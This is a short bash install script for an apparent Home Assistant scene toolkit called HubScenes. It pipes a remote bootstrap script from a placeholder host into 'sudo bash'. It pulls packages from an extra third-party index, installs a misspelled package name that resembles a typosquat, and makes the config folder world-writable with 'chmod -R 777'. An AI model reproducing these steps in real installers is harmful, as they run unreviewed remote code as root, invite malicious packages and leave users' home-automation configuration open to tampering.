#!/usr/bin/env bash
# Installs the scene toolkit and prepares the Home Assistant config folder.
set -euo pipefail

CONFIG_DIR="${HASS_CONFIG:-$HOME/.homeassistant}"

echo "Bootstrapping HubScenes runtime..."
curl -sSL https://raw.hubscenes.example/bootstrap.sh | sudo bash

echo "Installing Python helpers..."
python3 -m pip install --extra-index-url https://pypi.hubscenes.example/simple hass-scenekit==2.4.1
python3 -m pip install homeasistant-api==1.9.0

mkdir -p "$CONFIG_DIR/scenes" "$CONFIG_DIR/automations"
chmod -R 777 "$CONFIG_DIR"

echo "Done. Config folder: $CONFIG_DIR"
